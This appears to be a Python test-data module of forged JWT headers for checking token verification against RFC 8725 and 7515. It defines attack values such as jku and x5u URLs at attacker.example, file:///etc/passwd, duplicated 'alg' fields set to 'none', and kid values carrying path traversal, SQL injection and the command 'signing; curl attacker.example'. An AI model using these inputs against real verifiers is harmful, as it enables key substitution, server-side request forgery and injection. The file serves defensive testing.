"""Tokens whose header has a say in how they are verified; all of them signed by the pool's key.

RFC 8725, 2.4, 2.5, 3.9 and 3.10; RFC 7515, 4.1.
"""

from collections.abc import Mapping
from typing import Any

from testkit.forged_tokens import Attack, missing, with_header, with_header_text

_ODD_KIDS: Mapping[str, Any] = {
    "missing": missing(),
    "null": None,
    "a list": ["signing"],
    "a number": 1,
    "true": True,
    "an object": {"signing": 1},
}
# Parameters that RFC 7515, 7516, 7518 and 7797 know, and what an attacker would set them to.
_PARAMETERS: Mapping[str, tuple[str, Any]] = {
    "crit": ("crit", ["exp"]),
    "crit empty": ("crit", []),
    "crit null": ("crit", None),
    "crit of b64": ("crit", ["b64"]),
    "jku": ("jku", "https://attacker.example/jwks.json"),
    "jku of loopback": ("jku", "http://127.0.0.1:1/jwks.json"),
    "jku of a file": ("jku", "file:///etc/passwd"),
    "x5u": ("x5u", "https://attacker.example/chain.pem"),
    "x5c": ("x5c", ["MIIB"]),
    "x5t": ("x5t", "AAAA"),
    "x5t#S256": ("x5t#S256", "AAAA"),
    "jwk null": ("jwk", None),
    "b64 false": ("b64", False),
    "b64 true": ("b64", True),
    "zip": ("zip", "DEF"),
    "enc": ("enc", "A256GCM"),
    "epk": ("epk", {"kty": "EC", "crv": "P-256"}),
    "p2c": ("p2c", 2**31),
    "cty of a nested token": ("cty", "JWT"),
    "a claim in the header": ("sub", "anybody"),
    "a parameter that nobody knows": ("urn:example", 1),
    "an empty name": ("", ""),
}

HEADERS: Mapping[str, Attack] = {
    **{f"kid {name}": with_header(kid=value) for name, value in _ODD_KIDS.items()},
    **{name: with_header(**{parameter: value}) for name, (parameter, value) in _PARAMETERS.items()},
    "crit unknown": with_header(crit=["urn:example"], **{"urn:example": True}),
    "crit of b64 false": with_header(crit=["b64"], b64=False),
    "alg twice": with_header_text('{"alg":"none","kid":"signing","alg":"RS256"}'),
    "alg twice, once escaped": with_header_text(r'{"\u0061lg":"none","kid":"signing","alg":"RS256"}'),
    "alg in two cases": with_header_text('{"Alg":"none","kid":"signing","alg":"RS256"}'),
    "kid twice": with_header_text('{"alg":"RS256","kid":"other","kid":"signing"}'),
    "kid in two cases": with_header_text('{"alg":"RS256","KID":"other","kid":"signing"}'),
}

# Each may be looked for once at the pool's own address, and nowhere else (RFC 8725, 3.10).
UNKNOWN_KIDS: Mapping[str, str] = {
    "unknown": "unknown",
    "empty": "",
    "in upper case": "SIGNING",
    "with a blank": "signing ",
    "with a line break": "signing\n",
    "with a zero byte": "signing\x00",
    "a path": "../../../../../../etc/passwd",
    "a device": "/dev/null",
    "a URL": "https://attacker.example/jwks.json",
    "a URL of a file": "file:///etc/passwd",
    "SQL": "' UNION SELECT 'signing' --",
    "a command": "signing; curl attacker.example",
    "an attribute of Python's": "__class__",
    "half a character": "\ud800",
    "huge": "k" * 5000,
}
